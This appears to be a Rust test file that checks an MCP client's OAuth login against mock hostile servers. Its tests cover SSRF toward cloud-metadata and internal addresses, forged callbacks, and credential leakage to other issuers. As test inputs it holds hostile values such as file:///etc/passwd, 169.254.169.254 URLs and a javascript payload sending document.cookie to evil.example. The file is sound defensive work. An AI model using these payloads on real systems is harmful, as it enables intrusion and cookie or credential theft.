//! Servers and authorization servers that attack a client that logs in.

use crate::client::{Person, connect};
use crate::issuer::{Issuer, json_answer};
use crate::support::protected;
use axum::Router;
use axum::extract::Request;
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex};
use tokio::net::TcpListener;
use tool_adapters::egress::EgressPolicy;
use tool_adapters::mcp::{
    ImportError, LoginError, LoginRequest, McpClient, MemoryLoginStore, OAuthLogin,
};

/// The target of a request, and its token.
type Kept = (String, Option<String>);

/// A server that needs a token, and names what it likes. Keeps the requests that it gets, with their tokens.
struct Hostile {
    url: String,
    requests: Arc<Mutex<Vec<Kept>>>,
}

impl Hostile {
    /// `metadata` is the metadata of the server, and `challenge` its header, both by its origin.
    async fn start(metadata: impl Fn(&str) -> Value, challenge: impl Fn(&str) -> String) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("an address");
        let origin = format!("http://{}", listener.local_addr().expect("an address"));
        let (document, challenge, requests) =
            (metadata(&origin), challenge(&origin), Arc::default());
        let kept: Arc<Mutex<Vec<_>>> = Arc::clone(&requests);
        let answer = move |request: Request| -> Response {
            let token = request
                .headers()
                .get("authorization")
                .map(|value| value.to_str().expect("text").to_owned());
            kept.lock()
                .expect("no panic")
                .push((request.uri().to_string(), token));
            match request.uri().path() {
                path if path.starts_with("/.well-known/oauth-protected-resource") => {
                    json_answer(StatusCode::OK, &document)
                }
                "/mcp" => (
                    StatusCode::UNAUTHORIZED,
                    [(header::WWW_AUTHENTICATE, challenge.clone())],
                )
                    .into_response(),
                _ => StatusCode::NOT_FOUND.into_response(),
            }
        };
        let app =
            Router::new().fallback(move |request: Request| std::future::ready(answer(request)));
        tokio::spawn(async move { axum::serve(listener, app).await });
        Self {
            url: format!("{origin}/mcp"),
            requests,
        }
    }

    /// Names an authorization server.
    async fn naming(issuer: &str) -> Self {
        let issuer = issuer.to_owned();
        let metadata = move |origin: &str| json!({"resource": format!("{origin}/mcp"), "authorization_servers": [issuer]});
        Self::start(metadata, |_| "Bearer".to_owned()).await
    }

    fn requests(&self) -> Vec<Kept> {
        self.requests.lock().expect("no panic").clone()
    }
}

fn login_error(refused: Result<tool_core::ToolContext, ImportError>) -> LoginError {
    match refused.expect_err("an attack") {
        ImportError::Login(error) => error,
        other => panic!("expected an error of the login, got {other}"),
    }
}

/// Counts the connections to an internal service.
async fn internal() -> (String, Arc<Mutex<usize>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("an address");
    let (address, count) = (
        listener.local_addr().expect("an address"),
        Arc::new(Mutex::new(0)),
    );
    let counter = Arc::clone(&count);
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            *counter.lock().expect("no panic") += 1;
        }
    });
    (format!("http://{address}"), count)
}

// T29
#[tokio::test]
async fn internal_addresses_are_not_requested() {
    let person = Person::default();
    for issuer in [
        "http://169.254.169.254/latest/meta-data",
        "https://169.254.169.254",
        "https://10.0.0.1",
        "https://192.168.1.1/admin",
        "https://[fd00::1]",
        "https://[::ffff:10.0.0.1]",
        "https://100.64.0.1",
        "http://intranet.example",
        "file:///etc/passwd",
        "ftp://127.0.0.1",
        "javascript:alert(1)",
        "",
    ] {
        let server = Hostile::naming(issuer).await;
        let error = login_error(connect(&server.url, person.login()).await);
        assert!(
            matches!(error, LoginError::Discovery(_)),
            "{issuer}: {error}"
        );
    }
    assert!(person.asked().is_empty());
}

#[tokio::test]
async fn a_public_server_reaches_nothing_on_this_machine() {
    // With the rules for public servers, neither the server nor what it names is reached here.
    let ((service, count), person) = (internal().await, Person::default());
    let server = Hostile::naming(&service).await;
    let public = EgressPolicy::new();
    let refused = McpClient::url(&server.url)
        .egress(public.clone())
        .oauth(person.login())
        .connect()
        .await;
    assert!(
        refused.is_err() && server.requests().is_empty(),
        "{refused:?}"
    );
    let error = login_error(connect(&server.url, person.login().egress(public)).await);
    assert!(error.to_string().contains("loopback"), "{error}");
    assert_eq!(*count.lock().expect("no panic"), 0);
    assert!(
        server.requests().iter().all(|(target, _)| target == "/mcp"),
        "{:?}",
        server.requests()
    );
}

#[tokio::test]
async fn metadata_comes_from_the_server_itself() {
    let (issuer, person, (service, count)) =
        (Issuer::start().await, Person::default(), internal().await);
    let named = issuer.url.clone();
    let metadata = move |origin: &str| json!({"resource": format!("{origin}/mcp"), "authorization_servers": [named]});
    let challenge = move |_: &str| format!("Bearer resource_metadata=\"{service}/metadata\"");
    let server = Hostile::start(metadata, challenge).await;
    let error = login_error(connect(&server.url, person.login()).await);
    assert!(
        matches!(&error, LoginError::Discovery(text) if text.contains("another host")),
        "{error}"
    );
    assert_eq!(*count.lock().expect("no panic"), 0);
}

#[tokio::test]
async fn a_server_gets_no_token_of_another() {
    // The hostile server says that it is the sound one, so that a token for that would be issued.
    let (issuer, person) = (Issuer::start().await, Person::default());
    let sound = protected(&issuer).await;
    let (named, resource) = (issuer.url.clone(), sound.clone());
    let server = Hostile::start(
        move |_| json!({"resource": resource, "authorization_servers": [named]}),
        |_| "Bearer".to_owned(),
    )
    .await;
    let error = login_error(connect(&server.url, person.login()).await);
    assert!(
        matches!(&error, LoginError::Discovery(text) if text.contains("another resource")),
        "{error}"
    );
    assert!(person.asked().is_empty() && issuer.requests("/token").is_empty());
    assert!(server.requests().iter().all(|(_, token)| token.is_none()));
}

#[tokio::test]
async fn an_issuer_that_names_another_is_refused() {
    let person = Person::default();
    for metadata in [
        json!({"issuer": "https://login.example"}),
        json!({"issuer": null}),
        json!({"code_challenge_methods_supported": ["plain"]}),
        json!({"code_challenge_methods_supported": null}),
        json!({"authorization_endpoint": "javascript:fetch('https://evil.example/'+document.cookie)"}),
        json!({"authorization_endpoint": "file:///usr/bin/calculator"}),
        json!({"authorization_endpoint": "http://evil.example/authorize"}),
        json!({"authorization_endpoint": "https://user:password@login.example/authorize"}),
        json!({"authorization_endpoint": "https://192.168.1.1/reboot"}),
        json!({"authorization_endpoint": null}),
        json!({"token_endpoint": "http://evil.example/token"}),
        json!({"token_endpoint": "https://169.254.169.254/token"}),
        json!({"registration_endpoint": "https://10.0.0.1/register"}),
        json!({"registration_endpoint": null}),
    ] {
        let issuer = Issuer::start().await;
        issuer.behaviour().metadata = metadata.clone();
        let server = Hostile::naming(&issuer.url).await;
        let error = login_error(connect(&server.url, person.login()).await);
        assert!(
            matches!(
                error,
                LoginError::Discovery(_) | LoginError::Registration(_)
            ),
            "{metadata}: {error}"
        );
        assert!(issuer.requests("/authorize").is_empty() && issuer.requests("/token").is_empty());
    }
    assert!(person.asked().is_empty());
}

// C21
#[tokio::test]
async fn an_issuer_that_differs_by_its_last_slash_is_the_same() {
    let (issuer, person) = (Issuer::start().await, Person::default());
    let spelled = format!("{}/", issuer.url);
    issuer.behaviour().metadata = json!({"issuer": spelled});
    issuer.behaviour().callback = [("iss".to_owned(), spelled)].into();
    let url = protected(&issuer).await;
    let registered = Person::default();
    connect(&url, registered.login().client(&issuer.url, "planner"))
        .await
        .expect("the client of this issuer");
    connect(&url, person.login()).await.expect("a connection");
    assert_eq!(person.asked().len(), 1);
}

#[tokio::test]
async fn a_login_is_found_by_an_issuer_with_another_slash() {
    let issuer = Issuer::start().await;
    let person = Person::default();
    let spelled = format!("{}/", issuer.url);
    issuer.behaviour().metadata = json!({"issuer": spelled});
    issuer.behaviour().callback = [("iss".to_owned(), spelled)].into();
    let url = protected(&issuer).await;
    let store = MemoryLoginStore::default();
    for _ in 0..2 {
        let login = person.login().client(&issuer.url, "planner");
        connect(&url, login.store(store.clone()))
            .await
            .expect("a connection");
    }
    assert_eq!(person.asked().len(), 1);
}

#[tokio::test]
async fn a_token_is_refreshed_at_an_issuer_with_another_slash() {
    let issuer = Issuer::start().await;
    let person = Person::default();
    let url = protected(&issuer).await;
    issuer.behaviour().lifetime = Some(1);
    let store = MemoryLoginStore::default();
    let first = connect(&url, person.login().store(store.clone()))
        .await
        .expect("a connection");
    issuer.behaviour().lifetime = None;

    let spelled = format!("{}/", issuer.url);
    issuer.behaviour().metadata = json!({"issuer": spelled});
    connect(&url, OAuthLogin::stored("sign in").store(store))
        .await
        .expect("a refreshed token");
    // Its end is a request, which would log in again.
    drop(first);
}

// C21
#[tokio::test]
async fn an_error_names_each_address_that_was_tried() {
    let person = Person::default();
    let other = Hostile::naming("https://login.example").await;
    let issuer = format!("{}/tenant", other.url.trim_end_matches("/mcp"));
    let server = Hostile::naming(&issuer).await;
    let error = login_error(connect(&server.url, person.login()).await).to_string();
    for path in [
        "/.well-known/oauth-authorization-server/tenant: there is none",
        "/.well-known/openid-configuration/tenant: there is none",
        "/tenant/.well-known/openid-configuration: there is none",
    ] {
        assert!(error.contains(path), "{error}");
    }
    let refused = Issuer::start().await;
    refused.behaviour().metadata = json!({"registration_endpoint": null});
    let server = Hostile::naming(&refused.url).await;
    let error = login_error(connect(&server.url, person.login()).await).to_string();
    assert!(
        error.contains("set its `issuer` and `client_id`") && !error.contains("::"),
        "{error}"
    );
}

// C21
#[tokio::test]
async fn a_client_that_is_registered_by_hand_needs_no_word_about_pkce() {
    let (issuer, person) = (Issuer::start().await, Person::default());
    issuer.behaviour().metadata = json!({"code_challenge_methods_supported": null});
    let url = protected(&issuer).await;
    connect(&url, person.login().client(&issuer.url, "planner"))
        .await
        .expect("a connection");
    issuer.behaviour().metadata = json!({"code_challenge_methods_supported": ["plain"]});
    let error = login_error(
        connect(
            &url,
            Person::default().login().client(&issuer.url, "planner"),
        )
        .await,
    );
    assert!(error.to_string().contains("PKCE"), "{error}");
}

// C21
#[tokio::test]
async fn a_redirect_names_the_issuer_byte_for_byte() {
    let (issuer, person) = (Issuer::start().await, Person::default());
    issuer.behaviour().callback = [("iss".to_owned(), format!("{}/", issuer.url))].into();
    let url = protected(&issuer).await;
    let error = login_error(connect(&url, person.login()).await);
    assert!(matches!(error, LoginError::Callback(_)), "{error}");
    assert!(
        issuer.requests("/token").is_empty(),
        "the code is sent to no one"
    );
}

#[tokio::test]
async fn callbacks_of_other_logins_change_nothing() {
    for (name, value) in [
        ("iss", "https://evil.example"),
        ("iss", ""),
        ("iss", "http://127.0.0.1:1/"),
    ] {
        let (issuer, person) = (Issuer::start().await, Person::default());
        issuer.behaviour().callback = [(name.to_owned(), value.to_owned())].into();
        let url = protected(&issuer).await;
        let error = login_error(connect(&url, person.login()).await);
        assert!(
            matches!(error, LoginError::Callback(_)),
            "{name} {value}: {error}"
        );
        assert!(
            issuer.requests("/token").is_empty(),
            "the code is sent to no one"
        );
    }
    // A page that guesses the port sends its own code first. The login goes on, and takes the right one.
    let issuer = Issuer::start().await;
    let url = protected(&issuer).await;
    let statuses = Arc::new(Mutex::new(Vec::new()));
    let seen = Arc::clone(&statuses);
    let login = OAuthLogin::browser(move |request: LoginRequest| {
        let seen = Arc::clone(&seen);
        async move {
            let asked = reqwest::Url::parse(&request.url).expect("a URL");
            let redirect = asked
                .query_pairs()
                .find(|(name, _)| name == "redirect_uri")
                .expect("a redirect")
                .1
                .into_owned();
            let guesses = [
                "",
                "?code=evil",
                "?code=evil&state=",
                "?code=evil&state=guess",
                "?state=a&state=b",
                "?error=x",
            ];
            for guess in guesses {
                let status = reqwest::get(format!("{redirect}{guess}")).await?.status();
                seen.lock().expect("no panic").push(status.as_u16());
            }
            reqwest::get(request.url).await.map(drop)
        }
    });
    connect(&url, login).await.expect("a connection");
    assert_eq!(*statuses.lock().expect("no panic"), [400; 6]);
    assert!(
        issuer
            .requests("/token")
            .iter()
            .all(|kept| !kept.body.contains("evil"))
    );
}

#[tokio::test]
async fn a_callback_without_the_state_is_refused() {
    let issuer = Issuer::start().await;
    let url = protected(&issuer).await;
    for callback in [
        "code=evil",
        "code=evil&state=guess",
        "https://app.example/callback?code=evil&state=",
        "?",
    ] {
        let login = OAuthLogin::redirect("https://app.example/callback", move |_| {
            std::future::ready(Ok::<_, std::io::Error>(callback.to_owned()))
        });
        let error = login_error(connect(&url, login).await);
        assert!(
            matches!(error, LoginError::Callback(_)),
            "{callback}: {error}"
        );
    }
    assert!(issuer.requests("/token").is_empty());
}

// T29
#[tokio::test]
async fn credentials_stay_with_their_issuer() {
    let (issuer, evil) = (Issuer::start().await, Issuer::start().await);
    let server = Hostile::naming(&evil.url).await;
    let person = Person::default();
    for login in [
        OAuthLogin::machine(&issuer.url, "planner", "secret-canary"),
        person
            .login()
            .client(&issuer.url, "planner")
            .client_secret("secret-canary"),
    ] {
        let error = login_error(connect(&server.url, login).await);
        assert!(matches!(error, LoginError::OtherIssuer { .. }), "{error}");
    }
    assert!(person.asked().is_empty());
    let kept = evil
        .behaviour()
        .requests
        .iter()
        .map(|kept| kept.target.clone())
        .collect::<Vec<_>>();
    assert!(
        kept.iter()
            .all(|target| target.starts_with("/.well-known/")),
        "{kept:?}"
    );
}

#[tokio::test]
async fn a_server_that_refuses_every_token_asks_a_few_times_only() {
    let (issuer, person) = (Issuer::start().await, Person::default());
    let server = Hostile::naming(&issuer.url).await;
    connect(&server.url, person.login())
        .await
        .expect_err("it accepts nothing");
    assert!(person.asked().len() <= 4, "{}", person.asked().len());
    assert!(issuer.requests("/register").len() == 1 && issuer.requests("/token").len() <= 8);
}

#[tokio::test]
async fn a_denied_login_is_asked_once() {
    let (issuer, person) = (Issuer::start().await, Person::default());
    issuer.behaviour().callback = [
        ("error".to_owned(), "access_denied".to_owned()),
        ("code".to_owned(), String::new()),
    ]
    .into();
    let url = protected(&issuer).await;
    let error = login_error(connect(&url, person.login()).await);
    assert_eq!(
        (error, person.asked().len()),
        (LoginError::Denied("access_denied".to_owned()), 1)
    );
}

#[tokio::test]
async fn long_documents_and_redirects_are_refused() {
    let (person, (service, count)) = (Person::default(), internal().await);
    let issuer = Issuer::start().await;
    issuer.behaviour().metadata = json!({"x": "x".repeat(300_000)});
    let server = Hostile::naming(&issuer.url).await;
    let error = login_error(connect(&server.url, person.login()).await);
    assert!(
        matches!(&error, LoginError::Discovery(text) if text.contains("longer")),
        "{error}"
    );
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("an address");
    let redirecting = format!("http://{}", listener.local_addr().expect("an address"));
    let app = Router::new().fallback(move || {
        let to = service.clone();
        async move { (StatusCode::FOUND, [(header::LOCATION, to)]) }
    });
    tokio::spawn(async move { axum::serve(listener, app).await });
    let server = Hostile::naming(&redirecting).await;
    let error = login_error(connect(&server.url, person.login()).await);
    assert!(
        matches!(&error, LoginError::Discovery(text) if text.contains("redirects")),
        "{error}"
    );
    assert_eq!(*count.lock().expect("no panic"), 0);
}
